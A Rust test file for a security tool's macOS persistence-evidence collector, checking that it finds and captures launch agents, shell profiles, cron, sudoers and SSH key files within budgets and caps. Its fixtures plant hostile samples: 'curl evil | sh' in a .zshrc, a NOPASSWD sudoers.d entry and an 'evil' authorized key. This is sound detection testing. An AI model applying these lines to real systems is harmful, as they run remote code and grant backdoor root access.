use super::*;
use std::time::{Duration, SystemTime};
use ward_sdk::testing;

/// The finding's event time in these tests: far enough ahead that files the tests create
/// now (birth time included) are old, and a file dated a week before it is recent.
const EVENT_TIME: &str = "2040-01-01T00:00:00Z";
const EVENT_SECS: u64 = 2_208_988_800;

struct Mac(tempfile::TempDir);

impl Mac {
    fn new() -> Self {
        testing::reset();
        let dir = tempfile::tempdir().unwrap();
        testing::set_config("root", dir.path().to_str().unwrap());
        Mac(dir)
    }

    fn write(&self, path: &str, content: &[u8]) -> &Self {
        let full = self.0.path().join(path.trim_start_matches('/'));
        std::fs::create_dir_all(full.parent().unwrap()).unwrap();
        std::fs::write(full, content).unwrap();
        self
    }

    /// Dates `path`'s modification a week before the event.
    fn recent(&self, path: &str) -> &Self {
        let full = self.0.path().join(path.trim_start_matches('/'));
        let when = SystemTime::UNIX_EPOCH + Duration::from_secs(EVENT_SECS - 7 * 86_400);
        std::fs::File::options()
            .write(true)
            .open(full)
            .unwrap()
            .set_modified(when)
            .unwrap();
        self
    }
}

fn trigger(time: &str) -> Trigger {
    let mut event = testing::create(
        testing::process("/private/tmp/update"),
        "/Library/LaunchAgents/com.evil.plist",
    );
    event.time = time.to_owned();
    Trigger {
        detector: "launch-persistence".into(),
        finding: Finding::new("launch-item-plist-written", Severity::Medium, "m"),
        event,
    }
}

fn collect(time: &str) -> (Value, Vec<Artifact>) {
    let artifacts = PersistenceEvidence.collect(&trigger(time)).unwrap();
    let first = artifacts.first().unwrap();
    assert_eq!(first.name, "persistence.json");
    (serde_json::from_slice(&first.content).unwrap(), artifacts)
}

fn names(artifacts: &[Artifact]) -> Vec<&str> {
    artifacts.iter().skip(1).map(|a| a.name.as_str()).collect()
}

#[test]
fn describes_itself_with_every_config_key() {
    let info = PersistenceEvidence::describe();
    assert_eq!(info.name, "persistence-evidence");
    assert_eq!(info.capabilities, ["file-read"]);
    let keys: Vec<&str> = info.config.iter().map(|c| c.name.as_str()).collect();
    assert_eq!(
        keys,
        ["max_file_bytes", "recent_days", "root", "max_total_bytes"]
    );
}

#[test]
fn finds_every_kind_of_item_with_mac_paths() {
    let mac = Mac::new();
    mac.write("/Library/LaunchAgents/com.evil.plist", b"<plist/>")
        .recent("/Library/LaunchAgents/com.evil.plist")
        .write("/Library/LaunchDaemons/com.vendor.plist", b"<plist/>")
        .write(
            "/Users/alice/Library/LaunchAgents/com.apple.updater.plist",
            b"<plist/>",
        )
        .write("/Users/Shared/readme.txt", b"shared")
        .write("/Users/alice/.zshrc", b"curl evil | sh\n")
        .recent("/Users/alice/.zshrc")
        .write(
            "/Users/alice/.ssh/authorized_keys",
            b"ssh-ed25519 AAAA evil\n",
        )
        .write("/var/root/.profile", b"export X=1\n")
        .write(
            "/private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v9.btm",
            b"bplist00",
        )
        .write(
            "/private/var/db/com.apple.backgroundtaskmanagement/other.db",
            b"x",
        )
        .write("/usr/lib/cron/tabs/alice", b"* * * * * /tmp/x\n")
        .write("/etc/crontab", b"")
        .write("/etc/periodic/daily/999.evil", b"#!/bin/sh\n")
        .write("/etc/periodic.conf.local", b"x=1\n")
        .write("/etc/zshrc", b"# system\n")
        .write("/etc/sudoers", b"root ALL=(ALL) ALL\n")
        .write("/etc/sudoers.d/evil", b"alice ALL=(ALL) NOPASSWD: ALL\n");
    let (summary, artifacts) = collect(EVENT_TIME);
    let items = summary["items"].as_array().unwrap();
    let listed: Vec<(&str, &str, bool)> = items
        .iter()
        .map(|i| {
            (
                i["path"].as_str().unwrap(),
                i["kind"].as_str().unwrap(),
                i["recent"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        listed,
        [
            ("/Library/LaunchAgents/com.evil.plist", "launch-agent", true),
            (
                "/Library/LaunchDaemons/com.vendor.plist",
                "launch-daemon",
                false
            ),
            (
                "/Users/alice/.ssh/authorized_keys",
                "authorized-keys",
                false
            ),
            ("/Users/alice/.zshrc", "shell-profile", true),
            (
                "/Users/alice/Library/LaunchAgents/com.apple.updater.plist",
                "launch-agent",
                false
            ),
            ("/etc/crontab", "cron", false),
            ("/etc/periodic.conf.local", "periodic", false),
            ("/etc/periodic/daily/999.evil", "periodic", false),
            ("/etc/sudoers", "sudoers", false),
            ("/etc/sudoers.d/evil", "sudoers", false),
            ("/etc/zshrc", "shell-profile", false),
            (
                "/private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v9.btm",
                "btm",
                false
            ),
            ("/usr/lib/cron/tabs/alice", "cron", false),
            ("/var/root/.profile", "shell-profile", false),
        ]
    );
    assert!(items.iter().all(|i| i["content_included"] == true));
    assert_eq!(items[3]["size"], 15);
    assert_eq!(items[3]["sha256"].as_str().unwrap().len(), 64);
    assert_eq!(summary["errors"], json!([]));
    assert_eq!(summary["truncated"], json!([]));
    assert_eq!(names(&artifacts).len(), items.len());
    let zshrc = artifacts
        .iter()
        .find(|a| a.name == "files/Users/alice/.zshrc")
        .unwrap();
    assert_eq!(zshrc.content, b"curl evil | sh\n");
    assert_eq!(zshrc.content_type, "text/plain");

    // An unparsable event time makes nothing recent.
    let (summary, _) = collect("yesterday");
    assert!(
        summary["items"]
            .as_array()
            .unwrap()
            .iter()
            .all(|i| i["recent"] == false)
    );
}

#[test]
fn the_budget_keeps_recent_items_and_records_the_rest() {
    let mac = Mac::new();
    for name in ["a", "b", "c"] {
        mac.write(
            &format!("/Library/LaunchAgents/{name}.plist"),
            &vec![b'x'; 40_000],
        );
    }
    mac.recent("/Library/LaunchAgents/c.plist");
    testing::set_config("max_total_bytes", "60000");
    let (summary, artifacts) = collect(EVENT_TIME);
    assert_eq!(names(&artifacts), ["files/Library/LaunchAgents/c.plist"]);
    let truncated = summary["truncated"].as_array().unwrap();
    assert_eq!(
        truncated,
        &[
            json!("/Library/LaunchAgents/a.plist: content over the budget"),
            json!("/Library/LaunchAgents/b.plist: content over the budget"),
        ]
    );
    let total: usize = artifacts.iter().map(|a| a.content.len()).sum();
    assert!(total <= 60_000, "{total}");

    // One item larger than max_file_bytes: its beginning, recorded.
    testing::set_config("max_total_bytes", "3000000");
    testing::set_config("max_file_bytes", "1000");
    let (summary, artifacts) = collect(EVENT_TIME);
    assert!(artifacts.iter().skip(1).all(|a| a.content.len() == 1000));
    assert_eq!(
        summary["truncated"][0], "/Library/LaunchAgents/c.plist: first 1000 of 40000 bytes",
        "the recent item is read first"
    );
}

#[test]
fn thousands_of_launch_agents_are_capped_and_errors_do_not_stop_collection() {
    let mac = Mac::new();
    for i in 0..5_000 {
        mac.write(&format!("/Library/LaunchAgents/com.spam.{i:05}.plist"), b"");
    }
    // Not a directory: listing it fails, the rest is still collected (and capped: 5,001
    // items found).
    mac.write("/Library/LaunchDaemons", b"not a dir")
        .write("/etc/sudoers", b"root ALL=(ALL) ALL\n");
    testing::set_config("max_file_bytes", "0");
    let (summary, _) = collect(EVENT_TIME);
    let items = summary["items"].as_array().unwrap();
    assert_eq!(items.len(), MAX_ITEMS);
    assert!(items.iter().all(|i| i["kind"] == "launch-agent"));
    assert_eq!(
        summary["truncated"][0],
        "905 items past the 4096-item cap not listed"
    );
    let errors = summary["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 1);
    assert!(
        errors[0]
            .as_str()
            .unwrap()
            .starts_with("/Library/LaunchDaemons: io: ")
    );
}
